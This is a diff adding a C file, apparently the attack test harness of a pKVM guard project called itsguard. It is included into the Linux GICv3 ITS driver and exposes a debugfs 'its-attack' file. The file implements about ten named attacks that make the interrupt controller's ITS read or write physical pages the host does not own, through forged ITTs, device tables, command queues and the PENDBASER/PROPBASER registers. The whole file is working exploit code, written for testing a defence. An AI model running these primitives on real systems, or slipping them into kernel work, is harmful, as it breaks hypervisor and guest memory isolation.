@@ -1,0 +1,310 @@
+// SPDX-License-Identifier: GPL-2.0-or-later OR BSD-2-Clause
+// SPDX-FileCopyrightText: The itsguard authors
+/*
+ * A host that is after a page which is not its own: script/pkvm includes this file at the end of
+ * the kernel's drivers/irqchip/irq-gic-v3-its.c. /sys/kernel/debug/its-attack takes "KIND ADDRESS",
+ * where KIND is one of the functions below and ADDRESS the physical address of the page.
+ *
+ * Nothing here knows of the guard: it does to the GIC what the driver's own code could do.
+ */
+#include <linux/debugfs.h>
+#include <linux/uaccess.h>
+
+/* Their pending bits begin at byte 0x600 of a pending table, one byte each. */
+#define ATTACK_LPI (8192 + 4096)
+
+static u16 attack_col_map[2048];
+
+static struct its_node *attack_its(void)
+{
+	return list_first_entry(&its_nodes, struct its_node, entry);
+}
+
+/* A DeviceID that no device has, with a device table entry of its own. */
+static int attack_device(struct its_device *dev, u32 id, phys_addr_t itt, u32 nr_ites)
+{
+	*dev = (struct its_device){
+		.its = attack_its(),
+		.device_id = id,
+		.nr_ites = nr_ites,
+		.itt = phys_to_virt(itt),
+		.event_map.col_map = attack_col_map,
+	};
+
+	return its_alloc_device_table(dev->its, id) ? 0 : -ENOMEM;
+}
+
+static void attack_map_events(struct its_device *dev, u32 first, u32 count)
+{
+	u32 i;
+
+	for (i = 0; i < count; i++)
+		its_send_mapti(dev, ATTACK_LPI + 8 * i, first + i);
+}
+
+/* T7: MAPD names the page as an ITT, and MAPTI writes to it. */
+static int attack_itt(phys_addr_t page)
+{
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x60, page, 32);
+
+	if (ret)
+		return ret;
+	its_send_mapd(&dev, 1);
+	attack_map_events(&dev, 0, 4);
+	its_send_mapd(&dev, 0);
+
+	return 0;
+}
+
+/* T8: the ITT begins in the page before, and its tail is what is wanted. */
+static int attack_tail(phys_addr_t page)
+{
+	u32 entry = FIELD_GET(GITS_TYPER_ITT_ENTRY_SIZE, attack_its()->typer) + 1;
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x61, page - PAGE_SIZE, 512);
+
+	if (ret)
+		return ret;
+	its_send_mapd(&dev, 1);
+	attack_map_events(&dev, DIV_ROUND_UP(PAGE_SIZE, entry), 4);
+	its_send_mapd(&dev, 0);
+
+	return 0;
+}
+
+/* T9: as T7, but the map stays: the page is given to a guest afterwards. */
+static int attack_keep(phys_addr_t page)
+{
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x62, page, 32);
+
+	if (!ret)
+		its_send_mapd(&dev, 1);
+
+	return ret;
+}
+
+static int attack_kept(phys_addr_t page)
+{
+	struct its_device dev;
+	int ret = attack_device(&dev, 0x62, page, 32);
+
+	if (!ret)
+		attack_map_events(&dev, 0, 4);
+
+	return ret;
+}
+
+/* T5: the page as a level-2 table of devices: MAPD itself writes to it. */
+static int attack_level2(phys_addr_t page)
+{
+	struct its_node *its = attack_its();
+	struct its_baser *baser = its_get_baser(its, GITS_BASER_TYPE_DEVICE);
+	u32 per_page = baser->psz / GITS_BASER_ENTRY_SIZE(baser->val);
+	u32 index = BIT(device_ids(its)) / per_page - 1;
+	__le64 *table = baser->base;
+	struct its_device dev;
+
+	if (!(baser->val & GITS_BASER_INDIRECT))
+		return -EOPNOTSUPP;
+	page = ALIGN_DOWN(page, baser->psz);
+	table[index] = cpu_to_le64(page | GITS_BASER_VALID);
+	gic_flush_dcache_to_poc(table + index, sizeof(*table));
+	dsb(sy);
+	dev = (struct its_device){
+		.its = its,
+		.device_id = index * per_page,
+		.nr_ites = 32,
+		.itt = (void *)__get_free_page(GFP_KERNEL | __GFP_ZERO),
+		.event_map.col_map = attack_col_map,
+	};
+	its_send_mapd(&dev, 1);
+
+	return 0;
+}
+
+/* LPIs of the attacker's own, mapped as any driver does. */
+static int attack_pend(struct its_device *dev)
+{
+	phys_addr_t itt = virt_to_phys((void *)__get_free_page(GFP_KERNEL | __GFP_ZERO));
+	int ret = attack_device(dev, 0x63, itt, 32);
+
+	if (!ret) {
+		its_send_mapd(dev, 1);
+		attack_map_events(dev, 0, 8);
+	}
+
+	return ret;
+}
+
+static void attack_int(struct its_device *dev)
+{
+	u32 i;
+
+	for (i = 0; i < 8; i++)
+		its_send_int(dev, i);
+}
+
+/* What the pending bits of ATTACK_LPI are, in a table: bits from this byte on. */
+#define ATTACK_PEND_OFFSET (ATTACK_LPI / 8)
+
+/* T14: PENDBASER is written while LPIs are on, and interrupts are made pending. */
+static int attack_pendbaser(phys_addr_t page)
+{
+	void __iomem *rd = gic_data_rdist_cpu(0)->rd_base;
+	u64 before = gicr_read_pendbaser(rd + GICR_PENDBASER);
+	struct its_device dev;
+	int ret = attack_pend(&dev);
+
+	if (ret)
+		return ret;
+	gicr_write_pendbaser(page & ~0xffffULL, rd + GICR_PENDBASER);
+	attack_int(&dev);
+	gicr_write_pendbaser(before, rd + GICR_PENDBASER);
+
+	return 0;
+}
+
+/* The same, the way the architecture wants it: LPIs off, the register, LPIs on. */
+static int attack_enable(phys_addr_t page, bool prop)
+{
+	void __iomem *rd = gic_data_rdist_cpu(0)->rd_base;
+	u64 propbaser = gicr_read_propbaser(rd + GICR_PROPBASER);
+	u64 pendbaser = gicr_read_pendbaser(rd + GICR_PENDBASER);
+	u32 ctlr = readl_relaxed(rd + GICR_CTLR);
+	struct its_device dev;
+	int ret = attack_pend(&dev);
+
+	if (ret)
+		return ret;
+	writel_relaxed(ctlr & ~GICR_CTLR_ENABLE_LPIS, rd + GICR_CTLR);
+	while (readl_relaxed(rd + GICR_CTLR) & (GICR_CTLR_RWP | GICR_CTLR_ENABLE_LPIS))
+		cpu_relax();
+	if (prop)
+		gicr_write_propbaser((propbaser & ~GENMASK_ULL(51, 12)) | (page & ~0xfffULL),
+				     rd + GICR_PROPBASER);
+	else
+		gicr_write_pendbaser((pendbaser & ~GENMASK_ULL(51, 16)) | (page & ~0xffffULL),
+				     rd + GICR_PENDBASER);
+	writel_relaxed(ctlr, rd + GICR_CTLR);
+	ret = readl_relaxed(rd + GICR_CTLR) & GICR_CTLR_ENABLE_LPIS;
+	attack_int(&dev);
+	writel_relaxed(ctlr & ~GICR_CTLR_ENABLE_LPIS, rd + GICR_CTLR);
+	while (readl_relaxed(rd + GICR_CTLR) & (GICR_CTLR_RWP | GICR_CTLR_ENABLE_LPIS))
+		cpu_relax();
+	gicr_write_propbaser(propbaser, rd + GICR_PROPBASER);
+	gicr_write_pendbaser(pendbaser, rd + GICR_PENDBASER);
+	writel_relaxed(ctlr, rd + GICR_CTLR);
+	if (prop && ret)
+		pr_info("its-attack: propbaser read the page\n");
+	if (!(readl_relaxed(rd + GICR_CTLR) & GICR_CTLR_ENABLE_LPIS))
+		pr_info("its-attack: LPIs are not on as before\n");
+
+	return 0;
+}
+
+static int attack_pendenable(phys_addr_t page)
+{
+	return attack_enable(page, false);
+}
+
+/* T13: hardware reads from the page which LPIs are enabled. */
+static int attack_propbaser(phys_addr_t page)
+{
+	return attack_enable(page, true);
+}
+
+/* T3: the page as a flat table of devices. All mappings are lost: the last one of a run. */
+static int attack_baser(phys_addr_t page)
+{
+	struct its_node *its = attack_its();
+	struct its_baser *baser = its_get_baser(its, GITS_BASER_TYPE_DEVICE);
+	struct its_device dev;
+
+	writel_relaxed(0, its->base + GITS_CTLR);
+	if (its_force_quiescent(its->base))
+		return -EBUSY;
+	/* One page of 4 KB: address, Indirect, Size and Page_Size. */
+	baser->val &= ~(GENMASK_ULL(47, 12) | GITS_BASER_INDIRECT | GENMASK_ULL(9, 0));
+	its_write_baser(its, baser, baser->val | page | GITS_BASER_VALID);
+	writel_relaxed(GITS_CTLR_ENABLE, its->base + GITS_CTLR);
+	dev = (struct its_device){
+		.its = its,
+		.device_id = 1,
+		.nr_ites = 32,
+		.itt = (void *)__get_free_page(GFP_KERNEL | __GFP_ZERO),
+		.event_map.col_map = attack_col_map,
+	};
+	its_send_mapd(&dev, 1);
+
+	return 0;
+}
+
+/* T1: the page as a queue. The ITS reads from it: whether it did shows in CREADR. */
+static int attack_cbaser(phys_addr_t page)
+{
+	struct its_node *its = attack_its();
+
+	writel_relaxed(0, its->base + GITS_CTLR);
+	if (its_force_quiescent(its->base))
+		return -EBUSY;
+	gits_write_cbaser(page | GITS_CBASER_VALID, its->base + GITS_CBASER);
+	gits_write_cwriter(0, its->base + GITS_CWRITER);
+	writel_relaxed(GITS_CTLR_ENABLE, its->base + GITS_CTLR);
+	gits_write_cwriter(0x40, its->base + GITS_CWRITER);
+	if (readl_relaxed(its->base + GITS_CREADR))
+		pr_info("its-attack: cbaser read the page\n");
+
+	return 0;
+}
+
+static const struct {
+	const char *name;
+	int (*run)(phys_addr_t page);
+} attack_kinds[] = {
+	{"itt", attack_itt},
+	{"tail", attack_tail},
+	{"keep", attack_keep},
+	{"kept", attack_kept},
+	{"level2", attack_level2},
+	{"pendbaser", attack_pendbaser},
+	{"pendenable", attack_pendenable},
+	{"propbaser", attack_propbaser},
+	{"baser", attack_baser},
+	{"cbaser", attack_cbaser},
+};
+
+static ssize_t attack_write(struct file *file, const char __user *from, size_t length, loff_t *at)
+{
+	unsigned long long page;
+	char name[16], text[64] = {};
+	int i, ret;
+
+	if (length >= sizeof(text) || copy_from_user(text, from, length))
+		return -EINVAL;
+	if (sscanf(text, "%15s %llx", name, &page) != 2)
+		return -EINVAL;
+	for (i = 0; i < ARRAY_SIZE(attack_kinds); i++) {
+		if (strcmp(name, attack_kinds[i].name))
+			continue;
+		ret = attack_kinds[i].run(page);
+		pr_info("its-attack: %s 0x%llx: %d\n", name, page, ret);
+		return ret ?: length;
+	}
+
+	return -EINVAL;
+}
+
+static const struct file_operations attack_fops = {
+	.write = attack_write,
+	.llseek = noop_llseek,
+};
+
+static int __init attack_init(void)
+{
+	debugfs_create_file("its-attack", 0200, NULL, NULL, &attack_fops);
+
+	return 0;
+}
+late_initcall(attack_init);
